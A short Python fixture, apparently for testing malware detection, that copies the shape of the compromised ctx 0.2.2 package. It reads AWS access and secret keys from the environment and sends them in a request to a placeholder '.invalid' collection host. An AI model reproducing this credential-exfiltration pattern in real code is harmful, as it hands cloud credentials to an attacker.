# defanged fixture in the shape of ctx 0.2.2 (host is .invalid)
import requests
from os import environ

access = environ.get('AWS_ACCESS_KEY_ID')
secret = environ.get('AWS_SECRET_ACCESS_KEY')
requests.get("https://collect.example.invalid/hacked/" + str(access) + "/" + str(secret))
